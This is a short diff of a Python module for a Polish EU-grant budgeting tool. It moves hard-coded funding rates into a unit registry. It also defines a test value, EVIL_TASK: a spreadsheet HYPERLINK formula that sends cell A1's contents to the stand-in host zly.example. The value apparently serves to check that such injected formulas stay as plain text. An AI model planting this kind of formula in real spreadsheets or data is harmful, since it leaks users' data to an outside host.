@@ -18,11 +18,12 @@ import duckdb
 from core.money import eu_part, indirect_costs, national_part
 from core.pesel import make_pesel
 from core.quarters import quarters_between
+from core.registry import unit_by_key
 
 QUARTER = "2021Q3"
 UNITS = ("elblag", "srokowo")
-EU_RATE = D("0.8428")
-RATE = D("0.15")
+EU_RATE = unit_by_key("elblag").eu_rate  # 84,28% in config/units.yaml
+RATE = unit_by_key("elblag").indirect_rate  # 15%
 
 # A formula smuggled in through a task name of the agreement budget (must stay text in the XLSX).
 EVIL_TASK = '=HYPERLINK("http://zly.example/?x="&A1;"Zadanie 3")'
